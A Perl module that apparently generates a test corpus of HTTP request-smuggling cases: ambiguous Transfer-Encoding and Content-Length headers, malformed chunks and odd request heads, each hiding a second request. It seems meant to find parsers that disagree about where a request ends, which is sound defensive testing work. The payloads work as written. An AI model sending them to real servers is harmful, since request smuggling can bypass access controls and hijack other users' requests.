package Smuggling;

use 5.014;
use warnings;

use List::Util qw(pairmap);

# What an attacker wants to have read as a request of its own.
my $HIDDEN = "GET /hidden HTTP/1.1\r\nHost: x\r\n\r\n";

# In these one reader may find the end of the body by its length, and another by its chunks.
my %ENCODINGS = (
    'plain'              => 'Transfer-Encoding: chunked',
    'in capitals'        => 'TRANSFER-ENCODING: CHUNKED',
    'behind a tab'       => "Transfer-Encoding:\tchunked",
    'before a tab'       => "Transfer-Encoding: chunked\t",
    'behind a VT'        => "Transfer-Encoding:\x0bchunked",
    'before a NUL'       => "Transfer-Encoding: chunked\0",
    'a colon too far'    => 'Transfer-Encoding : chunked',
    'a line too far'     => "Transfer-Encoding\r\n : chunked",
    'folded'             => "Transfer-Encoding:\r\n chunked",
    'folded into'        => "X: y\r\n Transfer-Encoding: chunked",
    'behind a bare LF'   => "X: y\nTransfer-Encoding: chunked",
    'behind a bare CR'   => "X: y\rTransfer-Encoding: chunked",
    'with another'       => 'Transfer-Encoding: gzip, chunked',
    'before another'     => 'Transfer-Encoding: chunked, identity',
    'twice'              => "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    'before a line'      => "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    'behind a line'      => "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    'quoted'             => 'Transfer-Encoding: "chunked"',
    'another word'       => 'Transfer-Encoding: xchunked',
    'a comma'            => 'Transfer-Encoding: ,chunked',
    'with an underscore' => 'Transfer_Encoding: chunked',
    'with a parameter'   => 'Transfer-Encoding: chunked;q=1',
    'hop by hop'         => "Connection: close, Content-Length\r\nTransfer-Encoding: x",
);

my %LENGTHS = (
    'two'            => "Content-Length: 0\r\nContent-Length: LENGTH",
    'two, reversed'  => "Content-Length: LENGTH\r\nContent-Length: 0",
    'two the same'   => "Content-Length: LENGTH\r\nContent-Length: LENGTH",
    'a list'         => 'Content-Length: LENGTH, LENGTH',
    'with a sign'    => 'Content-Length: +LENGTH',
    'negative'       => 'Content-Length: -LENGTH',
    'hexadecimal'    => 'Content-Length: 0xHEX',
    'with zeros'     => 'Content-Length: 000LENGTH',
    'a fraction'     => 'Content-Length: LENGTH.0',
    'too large'      => 'Content-Length: 18446744073709551616',
    'with a blank'   => 'Content-Length: LENGTH 0',
    'before a colon' => 'Content-Length : LENGTH',
    'folded'         => "Content-Length:\r\n LENGTH",
    'underscored'    => 'Content_Length: LENGTH',
    'none'           => 'X: LENGTH',
    'hop by hop'     => "Connection: Content-Length\r\nContent-Length: LENGTH",
);

my %CHUNKS = (
    'an extension'          => "5;a=b\r\nhello\r\n0\r\n\r\n",
    'a quoted extension'    => "5;a=\"\r\nhello\r\n0\r\n\r\n$HIDDEN",
    'a bare LF in one'      => "5;a\nhello\r\n0\r\n\r\n$HIDDEN",
    'a bare CR in one'      => "5;a\rx\r\nhello\r\n0\r\n\r\n$HIDDEN",
    'a long extension'      => '5;' . 'x' x 5000 . "\r\nhello\r\n0\r\n\r\n",
    'a size behind a blank' => " 5\r\nhello\r\n0\r\n\r\n",
    'a size before a blank' => "5 \r\nhello\r\n0\r\n\r\n",
    'a size with a sign'    => "+5\r\nhello\r\n0\r\n\r\n",
    'a size with 0x'        => "0x5\r\nhello\r\n0\r\n\r\n$HIDDEN",
    'a size with zeros'     => "0000000000000000005\r\nhello\r\n0\r\n\r\n",
    'a size that overflows' => "10000000000000005\r\nhello\r\n0\r\n\r\n$HIDDEN",
    'an empty size'         => "\r\nhello\r\n0\r\n\r\n",
    'no end of data'        => "5\r\nhello0\r\n\r\n$HIDDEN",
    'another end of data'   => "5\r\nhelloXX0\r\n\r\n$HIDDEN",
    'a bare LF for an end'  => "5\nhello\n0\n\n$HIDDEN",
    'a trailer'             => "5\r\nhello\r\n0\r\nContent-Length: 99\r\nHost: y\r\n\r\n",
    'a folded trailer'      => "0\r\nX: y\r\n z\r\n\r\n",
    'a trailer of a blank'  => "0\r\n \r\n\r\n$HIDDEN",
    'a bare LF in trailers' => "0\r\nX: y\n\n$HIDDEN",
);

my %HEADS = (
    'bare LFs'               => "GET /PATH HTTP/1.1\nHost: x\n\n",
    'a bare CR'              => "GET /PATH HTTP/1.1\r\nHost: x\r\nX: y\rz\r\n\r\n",
    'a NUL'                  => "GET /PATH HTTP/1.1\r\nHost: x\r\nX: y\0z\r\n\r\n",
    'a NUL in the target'    => "GET /PATH\0 HTTP/1.1\r\nHost: x\r\n\r\n",
    'a blank before a name'  => "GET /PATH HTTP/1.1\r\n Host: x\r\n\r\n",
    'a name without a colon' => "GET /PATH HTTP/1.1\r\nHost: x\r\nX\r\n\r\n",
    'an empty name'          => "GET /PATH HTTP/1.1\r\nHost: x\r\n: y\r\n\r\n",
    'no Host'                => "GET /PATH HTTP/1.1\r\n\r\n",
    'two Hosts'              => "GET /PATH HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
    'another host in it'     => "GET http://y/PATH HTTP/1.1\r\nHost: x\r\n\r\n",
    'two versions'           => "GET /PATH HTTP/1.1 HTTP/1.1\r\nHost: x\r\n\r\n",
    'two blanks'             => "GET  /PATH  HTTP/1.1\r\nHost: x\r\n\r\n",
    'HTTP/0.9'               => "GET /PATH\r\n\r\n",
    'HTTP/1.2'               => "GET /PATH HTTP/1.2\r\nHost: x\r\n\r\n",
    'empty lines before it'  => "\r\n\r\nGET /PATH HTTP/1.1\r\nHost: x\r\n\r\n",
    'a blank line before it' => " \r\nGET /PATH HTTP/1.1\r\nHost: x\r\n\r\n",
    'HTTP/2 by its preface'  => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    'an upgrade to HTTP/2'   =>
        "GET /PATH HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
    'an upgrade to more' => "GET /PATH HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n$HIDDEN",
    'chunks in HTTP/1.0' => "POST /PATH HTTP/1.0\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n$HIDDEN",
    'an expectation'     => "POST /PATH HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\nhello",
    'another expectation'     => "POST /PATH HTTP/1.1\r\nHost: x\r\nExpect: wonders\r\nContent-Length: 5\r\n\r\nhello",
    'an expectation, no body' => "GET /PATH HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\n\r\n",
    'encoded ends of lines'   => "GET /PATH%0d%0aX:%20y HTTP/1.1\r\nHost: x\r\n\r\n",
    'a body of GET'           => "GET /PATH HTTP/1.1\r\nHost: x\r\nContent-Length: @{[length $HIDDEN]}\r\n\r\n$HIDDEN",
);

# corpus returns pairs of a name and what a client sends. Each has a path of its own, and ends with
# a request that asks to close the connection: whoever has lost count by then shows it.
sub corpus {
    my ($length, $hex) = (length $HIDDEN, sprintf '%x', length $HIDDEN);
    my $post   = "POST /PATH HTTP/1.1\r\nHost: x\r\n";
    my $chunks = "0\r\n\r\n$HIDDEN";
    my $whole  = 'Content-Length: ' . length $chunks;
    my @pairs;
    for my $name (sort keys %ENCODINGS) {
        my $field = $ENCODINGS{$name};
        push @pairs,
            "chunks, $name"                     => "$post$field\r\n\r\n$chunks",
            "chunks, $name, and a length"       => "$post$whole\r\n$field\r\n\r\n$chunks",
            "a length, and chunks, $name"       => "$post$field\r\n$whole\r\n\r\n$chunks",
            "chunks, $name, and a short length" =>
            "${post}Content-Length: 4\r\n$field\r\n\r\n$hex\r\n$HIDDEN\r\n0\r\n\r\n";
    }
    for my $name (sort keys %LENGTHS) {
        my $fields = $LENGTHS{$name} =~ s/LENGTH/$length/gr =~ s/HEX/$hex/r;
        push @pairs, "lengths, $name" => "$post$fields\r\n\r\n$HIDDEN";
    }
    push @pairs, "chunks with $_" => "${post}Transfer-Encoding: chunked\r\n\r\n$CHUNKS{$_}" for sort keys %CHUNKS;
    push @pairs, "a head with $_" => $HEADS{$_}                                             for sort keys %HEADS;

    my $number;
    return pairmap {
        my $path = sprintf '%03d', ++$number;
        my $last = "GET /$path/last HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
        ($a, ($b =~ s/PATH/$path/r) . $last)
    }
    @pairs;
}

1;

__END__

=head1 NAME

Smuggling - requests that two readers may end in different places

=head1 SYNOPSIS

    my @corpus = Smuggling::corpus();
    while (my ($name, $bytes) = splice @corpus, 0, 2) { ... }

=cut
